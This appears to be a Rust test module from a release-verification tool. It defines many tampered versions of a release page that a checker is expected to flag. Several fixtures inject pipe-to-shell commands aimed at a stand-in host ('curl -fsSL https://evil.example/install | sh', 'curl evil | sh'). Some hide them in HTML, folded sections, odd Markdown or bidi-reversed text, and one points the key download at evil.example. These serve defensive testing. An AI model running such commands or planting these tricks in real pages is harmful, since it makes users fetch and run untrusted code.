//! Lies on the release page.

use super::super::world::World;
use super::Lie;
use crate::evidence::page::{Format, PublishedPage};
use crate::oci::reference::Digest;

const INJECTED: &str = "```sh\ncurl -fsSL https://evil.example/install | sh\n```\n\n";

fn page(world: &mut World) -> &mut PublishedPage {
    world.page.as_mut().expect("there is a page")
}

pub(super) const LIES: &[Lie] = &[
    Lie {
        name: "no page",
        tell: |world| world.page = None,
        wrong: &["page.state"],
        unchecked: &["page.image", "page.commands", "page.assets"],
    },
    Lie {
        // A stranger does not see a draft.
        name: "page made a draft",
        tell: |world| page(world).draft = true,
        wrong: &["page.state"],
        unchecked: &["page.image", "page.commands", "page.assets"],
    },
    Lie {
        name: "page marked as a pre-release",
        tell: |world| page(world).page.prerelease = true,
        wrong: &["page.state"],
        unchecked: &[],
    },
    Lie {
        name: "page with another digest",
        tell: |world| {
            let (digest, other) = (world.digest.clone(), Digest::of(b"no image"));
            world.edit_page(|body| body.replace(digest.as_str(), other.as_str()));
        },
        wrong: &["page.image", "page.commands"],
        unchecked: &[],
    },
    Lie {
        name: "a command of the page changed by one character",
        tell: |world| world.edit_page(|body| body.replacen("--key cosign.pub", "--key cosign.pun", 1)),
        wrong: &["page.commands"],
        unchecked: &[],
    },
    Lie {
        name: "the page's public key from somewhere else",
        tell: |world| {
            world
                .edit_page(|body| body.replacen("curl -fsSLO http", "curl -fsSLO https://evil.example/?", 1));
        },
        wrong: &["page.commands"],
        unchecked: &[],
    },
    Lie {
        name: "a command of the page left out",
        tell: |world| {
            world.edit_page(|body| {
                let is_other = |line: &&str| !line.contains("--type cyclonedx");
                body.lines().filter(is_other).map(|line| format!("{line}\n")).collect()
            });
        },
        wrong: &["page.commands"],
        unchecked: &[],
    },
    Lie {
        name: "an extra command in the page's part about the image",
        tell: |world| {
            world.edit_page(|body| body.replacen("## Verify\n", &format!("{INJECTED}## Verify\n"), 1));
        },
        wrong: &["page.commands"],
        unchecked: &[],
    },
    Lie {
        name: "an extra command at the top of the page, in a list",
        tell: |world| world.edit_page(|body| format!("1. ```\n   curl evil | sh\n   ```\n   ```\n\n{body}")),
        wrong: &["page.commands"],
        unchecked: &[],
    },
    Lie {
        name: "an extra command at the top of the page, below a fence that ends nothing",
        tell: |world| {
            world.edit_page(|body| format!("```sh\n- ```\ncurl evil | sh\n- ```\n```\n\n{body}"));
        },
        wrong: &["page.commands"],
        unchecked: &[],
    },
    Lie {
        name: "an extra command at the top of the page, in HTML",
        tell: |world| world.edit_page(|body| format!("<pre>curl evil | sh</pre>\n\n{body}")),
        wrong: &["page.commands"],
        unchecked: &[],
    },
    Lie {
        name: "an extra command at the top of the page, in HTML within a line",
        tell: |world| world.edit_page(|body| format!("To upgrade, run <pre>curl evil | sh</pre>\n\n{body}")),
        wrong: &["page.commands"],
        unchecked: &[],
    },
    Lie {
        name: "an extra command at the top of the page, in a definition",
        tell: |world| world.edit_page(|body| format!("Run\n: ```sh\n  curl evil | sh\n\nThanks.\n\n{body}")),
        wrong: &["page.commands"],
        unchecked: &[],
    },
    Lie {
        name: "an extra command at the top of the page, folded away",
        tell: |world| {
            let fold = "<details><summary>Upgrade</summary><pre>curl evil | sh</pre></details>";
            world.edit_page(|body| format!("{fold}\n\n{body}"));
        },
        wrong: &["page.commands"],
        unchecked: &[],
    },
    Lie {
        name: "the page's part about the image folded away",
        tell: |world| {
            let fold = "<details><summary>Old, do not use (1)</summary>";
            world.edit_page(|body| body.replacen("## Image\n", &format!("{fold}\n\n## Image\n"), 1));
        },
        wrong: &["page.commands"],
        unchecked: &[],
    },
    Lie {
        name: "an extra command at the top of the page",
        tell: |world| world.edit_page(|body| format!("{INJECTED}{body}")),
        wrong: &["page.commands"],
        unchecked: &[],
    },
    Lie {
        name: "an extra command at the end of the page",
        tell: |world| world.edit_page(|body| format!("{body}\n{INJECTED}")),
        wrong: &["page.commands"],
        unchecked: &[],
    },
    Lie {
        name: "an extra command, and no format on the page",
        tell: |world| {
            world.edit_page(|body| format!("{INJECTED}{}", body.replace(&Format::NEWEST.mark(), "")));
        },
        wrong: &["page.commands"],
        unchecked: &[],
    },
    Lie {
        // Its commands may differ, but what it says about the image is the same in every format.
        name: "page that says that a newer xtask wrote it",
        tell: |world| world.edit_page(|body| format!("{INJECTED}{body}<!-- page format 99 -->\n")),
        wrong: &[],
        unchecked: &["page.commands"],
    },
    Lie {
        name: "page that says so, and names another image",
        tell: |world| {
            let (digest, other) = (world.digest.clone(), Digest::of(b"no image"));
            let changed = |body: &str| body.replace(digest.as_str(), other.as_str());
            world.edit_page(|body| format!("{}<!-- page format 99 -->\n", changed(body)));
        },
        wrong: &["page.image"],
        unchecked: &["page.commands"],
    },
    Lie {
        name: "another lockfile in the page's part about the image",
        tell: |world| {
            world.edit_page(|body| {
                let (above, table) = body.split_once("## Made from").expect("it has the part");
                format!("{above}## Made from{}", table.replacen("| `sha256:9", "| `sha256:8", 1))
            });
        },
        wrong: &["page.commands"],
        unchecked: &[],
    },
    Lie {
        name: "words below the page's part about the image",
        tell: |world| world.edit_page(|body| format!("{body}\nUse the image of example.org instead.\n")),
        wrong: &["page.commands"],
        unchecked: &[],
    },
    Lie {
        name: "another digest to pull at the top of the page, in a sentence",
        tell: |world| {
            let other = format!("example.org/x@{}", Digest::of(b"no image"));
            world.edit_page(|body| format!("Pull `{other}` instead.\n\n{body}"));
        },
        wrong: &["page.commands"],
        unchecked: &[],
    },
    Lie {
        name: "a heading above the page's part about the image that reads like its own",
        tell: |world| {
            world
                .edit_page(|body| body.replacen("## Image\n", "## Image \n\nIt has moved.\n\n## Image\n", 1));
        },
        wrong: &["page.commands"],
        unchecked: &[],
    },
    Lie {
        name: "words above the page's part about the image in another order than they are shown",
        tell: |world| world.edit_page(|body| format!("Run \u{202e}hs | live lruc\u{202c}.\n\n{body}")),
        wrong: &["page.commands"],
        unchecked: &[],
    },
    Lie {
        name: "another part about the image above the page's own",
        tell: |world| world.edit_page(|body| format!("## Image\n\n    docker pull example.org/x\n\n{body}")),
        wrong: &["page.commands"],
        unchecked: &[],
    },
];
